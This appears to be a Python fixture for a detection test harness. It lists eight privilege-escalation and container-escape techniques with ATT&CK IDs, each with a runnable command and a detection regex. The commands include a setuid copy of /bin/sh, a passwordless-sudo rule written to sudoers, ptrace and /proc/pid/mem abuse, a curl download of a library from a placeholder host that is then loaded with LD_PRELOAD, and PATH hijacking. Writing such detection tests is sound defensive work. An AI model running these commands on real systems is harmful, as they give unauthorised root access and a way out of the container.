"""More rights than the service has, in other processes' places, towards the host."""

from attacks.attack import Attack as A
from attacks.places import WEB

ATTACKS = [
    A(
        "T1548.001",
        "a shell with the set-user-id bit",
        "cp /bin/sh /tmp/.sh && chmod 4755 /tmp/.sh && /tmp/.sh -c true",
        ("exec", r"^/tmp/\.sh$"),
    ),
    A(
        "T1548.003",
        "a line in sudo's rules",
        "mkdir -p /etc/sudoers.d && echo 'ALL ALL=NOPASSWD: ALL' >/etc/sudoers.d/x",
        ("open", r"^/etc/sudoers\.d/"),
        root=True,
    ),
    A(
        "T1611",
        "looking for a way to the host",
        "cat /proc/1/mountinfo /proc/sys/kernel/core_pattern",
        ("open", r"^/proc/sys/kernel/core_pattern$"),
    ),
    A("T1611", "a way to the host over a device", "mknod /tmp/disk b 254 0", ("exec", r"/mknod$"), root=True),
    A(
        "T1055.008",
        "another process is traced",
        "perl -e '$p=fork;$p or do{sleep 1;exit};$r=syscall(101,16,$p,0,0);waitpid $p,0;syscall(101,17,$p,0,0);exit $r'",
        ("exec", r"/perl$"),
    ),
    A(
        "T1055.009",
        "another process's memory is written",
        'perl -e \'$p=fork;$p or do{sleep 1;exit};open(M,"+<","/proc/$p/mem")or exit 1;close M\'',
        ("open", r"^/proc/\d+/mem$"),
    ),
    A(
        "T1574.006",
        "a library is put in front by LD_PRELOAD",
        f"curl -s -o /tmp/front.so {WEB}/lib.so && LD_PRELOAD=/tmp/front.so /bin/true",
        ("open", r"^/tmp/front\.so$"),
    ),
    A(
        "T1574.007",
        "a program put in front in the PATH",
        "mkdir -p /tmp/bin && cp /bin/true /tmp/bin/ls && PATH=/tmp/bin:$PATH ls",
        ("exec", r"^/tmp/bin/ls$"),
    ),
]
